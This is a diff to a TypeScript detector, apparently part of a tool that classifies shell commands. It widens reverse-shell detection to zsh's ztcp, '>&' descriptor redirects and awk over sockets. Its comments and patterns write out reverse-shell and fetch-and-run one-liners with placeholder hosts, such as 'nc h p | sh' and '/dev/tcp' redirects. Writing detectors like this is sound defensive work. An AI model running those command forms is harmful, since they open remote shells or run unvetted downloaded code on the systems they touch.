@@ -4,6 +4,7 @@
 // later (`curl -O x/i.sh && bash i.sh`, `curl x | tee f && sh f`). Law 4: nobody read it.
 import type { ShellCommand } from '../runtime/shell/types.ts';
 import {
+  awkShellOnSocket,
   hasFlag,
   inlineCode,
   operands,
@@ -94,17 +95,25 @@ const INLINE_RUNS = /dup2|\bexec\w*\s*\(|popen|subprocess|\bsystem\s*\(|spawn|pt
 /**
  * A shell reading commands from a connection: a shell or interpreter that reads its stdin in a
  * pipeline holding a raw connection on either side (`nc h p | sh`, `cat f | sh -i | nc h p`,
- * `telnet h p | bash | telnet h q`), or reading a descriptor while the line opens a socket
- * (`exec 3<>/dev/tcp/h/p; sh <&3`).
+ * `telnet h p | bash | telnet h q`), or on a descriptor while the line opens a socket
+ * (`exec 3<>/dev/tcp/h/p; sh <&3`, zsh's `ztcp h p; zsh >&$REPLY`).
  */
 function shellOnConnection(c: ShellCommand, commands: readonly ShellCommand[]): boolean {
   if (!runsStdin(c)) return false;
   const piped = commands.filter((o) => o !== c && o.pipeline.id === c.pipeline.id);
   if (piped.some((o) => o.binary !== null && CONNECTORS.test(o.binary))) return true;
   return (
-    commands.some(usesNetworkDevice) &&
-    c.redirects.some((r) => r.op === '<&' && r.target !== null && !/^[012-]$/.test(r.target.text))
+    commands.some(opensConnection) &&
+    c.redirects.some(
+      (r) =>
+        (r.op === '<&' || r.op === '>&') && r.target !== null && !/^[012-]$/.test(r.target.text),
+    )
   );
+}
+
+/** A command that opens a socket for the line: a /dev/tcp redirect, zsh's ztcp. */
+function opensConnection(c: ShellCommand): boolean {
+  return usesNetworkDevice(c) || c.binary === 'ztcp';
 }
 
 /**
@@ -116,7 +125,7 @@ function runsRemoteCode(c: ShellCommand, commands: readonly ShellCommand[]): boo
   const b = c.binary;
   if (b === null) return false;
   if (runsCode(b) && usesNetworkDevice(c)) return true;
-  if (shellOnConnection(c, commands)) return true;
+  if (shellOnConnection(c, commands) || awkShellOnSocket(c)) return true;
   if (NETCATS.test(b)) return hasFlag(c.args, 'ec', ['--exec', '--sh-exec', '--lua-exec']);
   if (b === 'socat') return c.args.some((a) => /^(?:exec|system):/i.test(a.text));
   const code = inlineCode(c);
